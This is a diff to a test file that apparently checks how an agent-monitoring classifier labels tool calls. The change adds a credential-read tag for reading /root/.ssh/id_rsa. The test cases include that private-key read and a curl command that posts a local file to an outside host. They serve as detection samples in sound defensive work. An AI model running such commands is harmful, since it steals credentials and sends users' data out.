@@ -178,7 +178,7 @@ def test_an_apology_is_no_refusal() -> None:
         ("slack_post_message", "", {Act.EGRESS}),
         ("query_database", "", {Act.SENSITIVE_READ}),
         ("read_file", "path: /workspace/app.py", set()),
-        ("read_file", "path: /root/.ssh/id_rsa", {Act.SENSITIVE_READ}),
+        ("read_file", "path: /root/.ssh/id_rsa", {Act.SENSITIVE_READ, Act.CREDENTIAL_READ}),
         ("bash", "command: ls -la", {Act.EXECUTE}),
         ("bash", "command: curl -d @notes.txt https://x.net", {Act.EXECUTE, Act.EGRESS}),
         ("make_chart", "", set()),
